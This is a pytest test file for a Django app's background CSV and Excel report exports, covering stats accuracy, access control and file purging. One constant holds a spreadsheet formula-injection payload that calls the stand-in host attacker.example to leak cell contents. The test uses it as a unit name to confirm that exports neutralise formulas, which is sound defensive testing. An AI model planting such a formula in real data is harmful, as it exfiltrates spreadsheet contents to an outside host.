"""Exports go through the real broker and a real worker; the files are parsed back."""

import csv
import io
import os
from datetime import timedelta

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import UnitRole
from reports import tasks
from reports.exports import ERROR_SCOPE, cell_safe, export_build
from reports.models import ExportJob, UnitStat
from tests.accounts.factories import sign_in
from tests.reports.factories import COMMUNE_A, COMMUNE_B, HAI_PHONG, official_of, stat_create
from tests.waiting import wait_until
from units.models import Unit
from units.services import unit_create

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem")'


@pytest.fixture
def media_root(settings, tmp_path):
    """Exports go to the private root, never under MEDIA_ROOT."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PRIVATE_ROOT = tmp_path / "private"
    return settings.PRIVATE_ROOT


@pytest.fixture
def hai_phong_stats(units_tx):
    stat_create(
        HAI_PHONG,
        learners=6100,
        enrolled=5230,
        started=4500,
        completed=3970,
        certified=3890,
        target=8000,
        target_completed=3000,
    )
    stat_create(
        COMMUNE_A,
        learners=211,
        enrolled=200,
        started=180,
        completed=150,
        certified=149,
        target=300,
        target_completed=120,
    )
    stat_create(COMMUNE_B, learners=96, enrolled=80, started=60, completed=20, certified=19)


def wait_for(job: ExportJob, *, timeout: float = 30) -> ExportJob:
    def finished():
        job.refresh_from_db()
        return job.status in (ExportJob.Status.DONE, ExportJob.Status.FAILED)

    wait_until(
        finished,
        timeout=timeout,
        message=lambda: f"export {job.pk} still {job.status} after {timeout} s",
    )
    return job


def export_through_worker(client, code: str, file_format: str, **params) -> ExportJob:
    response = client.post(
        reverse("reports:export_create", args=[code]), {"file_format": file_format, **params}
    )
    assert response.status_code == 302
    job = ExportJob.objects.latest("pk")
    assert response.url == reverse("reports:export", args=[job.pk])
    assert (job.view, job.file_format) == ("children", file_format)
    job = wait_for(job)
    assert job.status == ExportJob.Status.DONE, job.error
    assert job.progress == 100
    page = client.get(response.url).content.decode()
    assert reverse("reports:export_download", args=[job.pk]) in page
    assert 'http-equiv="refresh"' not in page  # finished: no more refreshing
    return job


def download(client, job: ExportJob) -> bytes:
    response = client.get(reverse("reports:export_download", args=[job.pk]))
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert f"-{job.unit.code}-" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def expected_line(code: str) -> list:
    stat = UnitStat.objects.get(unit__code=code, course_key=0, audience_group="*")
    return [
        stat.learners,
        stat.enrolled,
        stat.started,
        stat.completed,
        stat.completion_rate,
        stat.certified,
        stat.target,
        stat.target_completed,
        stat.target_rate,
    ]


@pytest.mark.celery
def test_csv_export_through_the_worker_matches_the_stats(
    client, celery_worker, hai_phong_stats, media_root
):
    sign_in(client, official_of(HAI_PHONG))
    job = export_through_worker(client, HAI_PHONG, "csv")
    content = download(client, job)

    assert content.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, *rows, total = lines
    assert len(header) == 12 and header[0] in ("Unit", "Đơn vị")
    assert len(rows) == 114
    by_code = {row[1]: row for row in rows}

    def numbers(row):
        return [None if v == "" else (float(v) if "." in v else int(v)) for v in row[3:]]

    assert by_code[COMMUNE_A][0] == "Phường Hồng Bàng"
    assert numbers(by_code[COMMUNE_A]) == expected_line(COMMUNE_A)
    assert numbers(by_code[COMMUNE_B]) == expected_line(COMMUNE_B)
    assert numbers(total) == expected_line(HAI_PHONG)
    assert total[1] == HAI_PHONG and "Hải Phòng" in total[0]
    # The page's order and ranks: A (75%) first, B (25%) second, the rest unranked.
    assert [rows[0][1], rows[0][2], rows[1][1], rows[1][2]] == [COMMUNE_A, "1", COMMUNE_B, "2"]
    assert rows[2][2] == ""
    assert str(media_root) in ExportJob.objects.get(pk=job.pk).file.path


@pytest.mark.celery
def test_xlsx_export_through_the_worker_has_numbers_as_numbers(
    client, celery_worker, hai_phong_stats, media_root
):
    sign_in(client, official_of(HAI_PHONG))
    job = export_through_worker(client, HAI_PHONG, "xlsx", sort="name")
    sheet = load_workbook(io.BytesIO(download(client, job))).active

    rows = list(sheet.iter_rows(values_only=True))
    header, *children, total = rows
    assert all(cell.font.bold for cell in sheet[1])
    assert len(children) == 114
    by_code = {row[1]: row for row in children}
    assert list(by_code[COMMUNE_A][3:]) == expected_line(COMMUNE_A)
    assert list(by_code[COMMUNE_B][3:]) == expected_line(COMMUNE_B)
    assert list(total[3:]) == expected_line(HAI_PHONG)
    row_a = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == COMMUNE_A)
    assert [cell.data_type for cell in row_a[3:]] == ["n"] * 9
    assert row_a[7].number_format == "0.0"
    assert by_code[COMMUNE_A][2] == 1  # rank by completion rate even when sorted by name
    names = [row[0] for row in children]
    assert names.index("Phường Hồng Bàng") < names.index("Phường Thuỷ Nguyên")


@pytest.mark.celery
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_unit_name_that_is_a_formula_comes_out_as_text(
    client, celery_worker, units_tx, media_root, file_format
):
    hai_phong = Unit.objects.get(code=HAI_PHONG)
    unit_create(code="31-EVIL", name=HYPERLINK, kind="enterprise", parent=hai_phong)
    unit_create(code="31-PLUS", name="+84 Doanh nghiệp", kind="enterprise", parent=hai_phong)
    stat_create("31-EVIL", learners=5, enrolled=5, completed=5)
    sign_in(client, official_of(HAI_PHONG))

    job = export_through_worker(client, HAI_PHONG, file_format)
    content = download(client, job)

    if file_format == "csv":
        names = [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))]
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        names = [row[0] for row in sheet.iter_rows(values_only=True)]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert names[1] == "'" + HYPERLINK  # 100% completion: ranked first
    assert "'+84 Doanh nghiệp" in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_cell_safe_neutralises_every_formula_prefix():
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert cell_safe(text) == "'" + text
    assert cell_safe("Xã An Lão") == "Xã An Lão"
    assert cell_safe(-5) == -5 and cell_safe(12.5) == 12.5 and cell_safe(None) is None


@pytest.mark.celery
def test_only_the_requester_can_see_or_download_an_export(
    client, celery_worker, hai_phong_stats, media_root
):
    sign_in(client, official_of(HAI_PHONG))
    job = export_through_worker(client, HAI_PHONG, "csv")

    sign_in(client, official_of(HAI_PHONG))  # a colleague with the same scope
    assert client.get(reverse("reports:export_download", args=[job.pk])).status_code == 404
    assert client.get(reverse("reports:export", args=[job.pk])).status_code == 404


@pytest.mark.celery
def test_the_task_refuses_when_the_requester_lost_the_scope(
    client, celery_worker, hai_phong_stats, media_root
):
    official = official_of(COMMUNE_A)
    UnitRole.objects.filter(user=official).update(unit=Unit.objects.get(code=COMMUNE_B))
    job = ExportJob.objects.create(
        requester=official, unit=Unit.objects.get(code=COMMUNE_A), file_format="csv"
    )

    tasks.export_build.delay(job.pk)

    job = wait_for(job)
    assert job.status == ExportJob.Status.FAILED
    assert job.error == ERROR_SCOPE and not job.file


def test_a_finished_job_is_left_alone(units, media_root):
    official = official_of(HAI_PHONG)
    job = ExportJob.objects.create(
        requester=official, unit=Unit.objects.get(code=HAI_PHONG), file_format="csv"
    )
    export_build(job_id=job.pk)
    job.refresh_from_db()
    first = (job.status, job.file.name, job.finished_at)
    assert first[0] == ExportJob.Status.DONE

    export_build(job_id=job.pk)  # a redelivered message

    job.refresh_from_db()
    assert (job.status, job.file.name, job.finished_at) == first
    assert export_build(job_id=999_999) is None


def test_invalid_export_parameters_are_a_400(client, units):
    sign_in(client, official_of(HAI_PHONG))
    url = reverse("reports:export_create", args=[HAI_PHONG])
    assert client.post(url, {"file_format": "pdf"}).status_code == 400
    assert client.post(url, {"file_format": "csv", "sort": "bogus"}).status_code == 400
    assert client.get(url).status_code == 405
    assert not ExportJob.objects.exists()


@pytest.mark.celery
def test_purge_removes_old_jobs_and_their_files(celery_worker, units_tx, media_root):
    official = official_of(HAI_PHONG)
    unit = Unit.objects.get(code=HAI_PHONG)
    old = ExportJob.objects.create(
        requester=official,
        unit=unit,
        file_format="csv",
        status="done",
        created_at=timezone.now() - timedelta(days=8),
    )
    old.file.save("old.csv", ContentFile(b"a,b\n"))
    recent = ExportJob.objects.create(
        requester=official,
        unit=unit,
        file_format="csv",
        status="done",
        created_at=timezone.now() - timedelta(days=6),
    )
    recent.file.save("recent.csv", ContentFile(b"a,b\n"))
    old_path, recent_path = old.file.path, recent.file.path

    tasks.exports_purge.delay().get(timeout=30)  # through the broker and the worker

    assert not ExportJob.objects.filter(pk=old.pk).exists()
    assert ExportJob.objects.filter(pk=recent.pk).exists()
    assert not os.path.exists(old_path)
    assert os.path.exists(recent_path)
